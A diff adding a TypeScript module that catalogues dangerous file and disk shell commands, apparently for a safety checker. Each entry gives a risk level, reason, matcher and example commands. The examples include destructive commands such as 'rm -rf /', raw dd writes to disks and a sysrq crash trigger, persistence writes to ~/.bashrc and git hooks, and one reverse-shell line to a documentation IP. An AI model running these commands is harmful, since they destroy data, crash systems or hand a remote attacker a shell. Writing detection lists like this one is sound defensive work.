@@ -1,0 +1,140 @@
+// Danger catalogue, files and disks: deletes, disk tools, device writes, permission changes, system files.
+import type { DangerEntry } from './danger-entry.ts';
+import { hasFlag, operands } from './flags.ts';
+import { writeTargets } from './write-targets.ts';
+import { isDangerousDevice, isGitInternal, isKernelControl, isRootOrHome, isShellProfile, isSystemPath } from './sensitive-targets.ts';
+
+const RECURSIVE_RM = (args: string[]): boolean => hasFlag(args, 'rR', ['--recursive']);
+const FORCE_RM = (args: string[]): boolean => hasFlag(args, 'f', ['--force']);
+const DISK_TOOLS = /^(mkfs(\..+)?|mke2fs|mkswap|wipefs|fdisk|sfdisk|cfdisk|gdisk|sgdisk|parted|blkdiscard|zpool|badblocks)$/;
+
+/** A chmod mode (numeric or symbolic) and what it grants. */
+function chmodMode(args: string[]): { exec: boolean; worldWritable: boolean; setid: boolean } | undefined {
+  const mode = operands(args, ['--reference'])[0];
+  if (mode === undefined) return undefined;
+  if (/^[0-7]{3,4}$/.test(mode)) {
+    const digits = mode.padStart(4, '0');
+    const [special, u, g, o] = [...digits].map(Number) as [number, number, number, number];
+    return { exec: [u, g, o].some((d) => d % 2 === 1), worldWritable: (o & 2) !== 0, setid: (special & 6) !== 0 };
+  }
+  if (!/^[ugoa]*[-+=]/.test(mode)) return undefined;
+  const clauses = mode.split(',');
+  const grants = (re: RegExp): boolean => clauses.some((c) => /^[ugoa]*[+=]/.test(c) && re.test(c.replace(/^[ugoa]*[+=]/, '')));
+  const who = (c: string): string => /^([ugoa]*)/.exec(c)![1] || 'a';
+  return {
+    exec: grants(/x/),
+    worldWritable: clauses.some((c) => /[+=][^-+=]*w/.test(c) && /[ao]/.test(who(c))),
+    setid: grants(/s/),
+  };
+}
+
+/** Operands of a path-taking command, the mode / owner first operand excluded. */
+const targetsAfterFirst = (args: string[]): string[] => operands(args, ['--reference']).slice(1);
+
+export const FILE_DANGERS: DangerEntry[] = [
+  {
+    id: 'rm-recursive-force', risk: 'high', reason: 'recursive forced delete (rm -rf): files are gone without a prompt',
+    examples: ['rm -rf ~/projects', 'rm -r -f ./*', 'rm --recursive --force dist', 'sudo rm -fr /srv'],
+    match: (v) => (v.program === 'rm' || v.program === 'unlink') && RECURSIVE_RM(v.args) && FORCE_RM(v.args),
+  },
+  {
+    id: 'rm-recursive', risk: 'high', reason: 'recursive delete (rm -r) of a directory tree',
+    examples: ['rm -r ~', 'rm -R build', 'rmdir --ignore-fail-on-non-empty -p a/b'],
+    match: (v) => (v.program === 'rm' && RECURSIVE_RM(v.args) && !FORCE_RM(v.args)) || (v.program === 'rmdir' && hasFlag(v.args, 'p', ['--parents'])),
+  },
+  {
+    id: 'rm-root-or-home', risk: 'high', reason: 'deletes /, a home directory or a system directory',
+    examples: ['rm -f /', 'rm -rf /', 'rm -r --no-preserve-root /', 'rm -f /etc/passwd'],
+    match: (v) => v.program === 'rm' && operands(v.args).some((p) => isRootOrHome(p, v.home) || isSystemPath(p)),
+  },
+  {
+    id: 'find-delete', risk: 'high', reason: 'find deletes every file it matches (-delete or -exec rm)',
+    examples: ['find ~ -mindepth 1 -delete', 'find . -name "*.log" -delete', 'find . -exec rm {} +', 'find / -execdir shred -u {} ;'],
+    match: (v) => v.program === 'find' && v.args.some((a, i) => a === '-delete' || (/^-(exec|execdir|ok|okdir)$/.test(a) && /^(.*\/)?(rm|shred|unlink|rmdir|srm|wipe)$/.test(v.args[i + 1] ?? ''))),
+  },
+  {
+    id: 'disk-format', risk: 'high', reason: 'formats, partitions or wipes a disk',
+    examples: ['mkfs.ext4 /dev/sdb1', 'wipefs -a /dev/nvme0n1', 'fdisk /dev/sda', 'parted /dev/sda rm 1'],
+    match: (v) => DISK_TOOLS.test(v.program),
+  },
+  {
+    id: 'shred', risk: 'high', reason: 'shred overwrites files so they cannot be recovered',
+    examples: ['shred -u notes.txt', 'shred /dev/sda'],
+    match: (v) => v.program === 'shred' || v.program === 'srm' || v.program === 'wipe',
+  },
+  {
+    id: 'dd-to-device', risk: 'high', reason: 'dd writes raw bytes onto a device',
+    examples: ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd if=img.iso of=/dev/disk2'],
+    match: (v) => v.program === 'dd' && v.args.some((a) => a.startsWith('of=') && isDangerousDevice(a.slice(3))),
+  },
+  {
+    id: 'write-device', risk: 'high', reason: 'writes onto a device file (disk, raw socket or terminal of another process)',
+    examples: ['cat /dev/urandom >/dev/sda', 'cp /dev/zero /dev/sdb', 'echo x | tee /dev/nvme0n1', 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'],
+    match: (v) => v.program !== 'dd' && writeTargets(v).some(isDangerousDevice),
+  },
+  {
+    id: 'kernel-control', risk: 'high', reason: 'writes a kernel control file (/proc/sysrq-trigger crashes or reboots at once)',
+    examples: ['echo c >/proc/sysrq-trigger', 'echo 1 | tee /proc/sys/kernel/panic'],
+    match: (v) => writeTargets(v).some(isKernelControl),
+  },
+  {
+    id: 'write-system-path', risk: 'high', reason: 'writes, moves or truncates files in a system directory',
+    examples: ['echo x > /etc/hosts', 'mv /etc ~/.Trash/', 'mv -t /etc ~/Documents/a', 'find . -fprint /etc/passwd', 'truncate -s 0 /var/lib/mysql/ibdata1'],
+    match: (v) => writeTargets(v).some((p) => isSystemPath(p) && !isKernelControl(p)),
+  },
+  {
+    id: 'move-home-or-root', risk: 'high', reason: 'moves a home directory or / away',
+    examples: ['mv /Users/merlin /tmp/x', 'mv ~ /tmp/old-home'],
+    match: (v) => v.program === 'mv' && operands(v.args).some((p) => isRootOrHome(p, v.home)),
+  },
+  {
+    id: 'shell-profile-write', risk: 'high', reason: 'writes a shell start-up file: the line runs in every future shell',
+    examples: ["echo 'alias cd=\"rm -r\"' >> ~/.bashrc", 'cp evil ~/.zshrc', 'tee -a ~/.profile < x'],
+    match: (v) => writeTargets(v).some((p) => isShellProfile(p, v.home)) || (v.program === 'sed' && hasFlag(v.args, 'i', ['--in-place']) && v.args.some((p) => isShellProfile(p, v.home))),
+  },
+  {
+    id: 'git-internals-write', risk: 'high', reason: 'writes .git/config or a git hook: the next git command runs what it says',
+    examples: ['echo x >.git/config', 'cp payload .git/hooks/pre-commit'],
+    match: (v) => writeTargets(v).some(isGitInternal),
+  },
+  {
+    id: 'chmod-recursive-world-writable', risk: 'high', reason: 'recursive chmod that makes a tree world-writable (chmod -R 777)',
+    examples: ['chmod -R 777 /var/www', 'chmod -R 0777 /var/www', 'chmod 777 -R .', 'chmod --recursive a+rwx .'],
+    match: (v) => v.program === 'chmod' && hasFlag(v.args, 'R', ['--recursive']) && chmodMode(v.args)?.worldWritable === true,
+  },
+  {
+    id: 'chmod-recursive-system', risk: 'high', reason: 'recursive permission change on /, a home or a system directory',
+    examples: ['chmod -R 755 /etc', 'chmod -R g-w ~', 'setfacl -R -m u:app:rwx /etc'],
+    match: (v) => (v.program === 'chmod' || v.program === 'setfacl' || v.program === 'chgrp') && hasFlag(v.args, 'R', ['--recursive']) && v.args.some((p) => isRootOrHome(p, v.home) || isSystemPath(p)),
+  },
+  {
+    id: 'chmod-recursive', risk: 'medium', reason: 'recursive permission change',
+    examples: ['chmod -R u+w src', 'setfacl -R -m u:app:rwx data'],
+    match: (v) => (v.program === 'chmod' || v.program === 'setfacl') && hasFlag(v.args, 'R', ['--recursive']),
+  },
+  {
+    id: 'chmod-setuid', risk: 'high', reason: 'sets the setuid/setgid bit: the program then runs with its owner\'s rights',
+    examples: ['chmod u+s /usr/bin/find', 'chmod 4755 ./tool', 'chmod g+s bin/x'],
+    match: (v) => v.program === 'chmod' && chmodMode(v.args)?.setid === true,
+  },
+  {
+    id: 'chmod-world-writable', risk: 'medium', reason: 'chmod 777: everyone may modify the file',
+    examples: ['chmod 777 file', 'chmod 0666 data.db', 'chmod o+w config'],
+    match: (v) => v.program === 'chmod' && chmodMode(v.args)?.worldWritable === true,
+  },
+  {
+    id: 'chmod-executable', risk: 'medium', reason: 'makes a file executable (chmod +x): it can then be run',
+    examples: ['chmod +x ./deploy.sh', 'chmod a+x ~/bin/*', 'chmod 755 file', 'chmod u+x run'],
+    match: (v) => v.program === 'chmod' && chmodMode(v.args)?.exec === true,
+  },
+  {
+    id: 'chown-recursive', risk: 'high', reason: 'recursive ownership change (chown -R)',
+    examples: ['chown -R 1000 /', 'chown --recursive www-data: /var/www', 'chown -hR me .'],
+    match: (v) => (v.program === 'chown' || v.program === 'chgrp') && hasFlag(v.args, 'R', ['--recursive']),
+  },
+  {
+    id: 'chown', risk: 'medium', reason: 'changes the owner of a file',
+    examples: ['chown root file', 'chgrp wheel ./tool'],
+    match: (v) => (v.program === 'chown' || v.program === 'chgrp') && targetsAfterFirst(v.args).length > 0,
+  },
+];
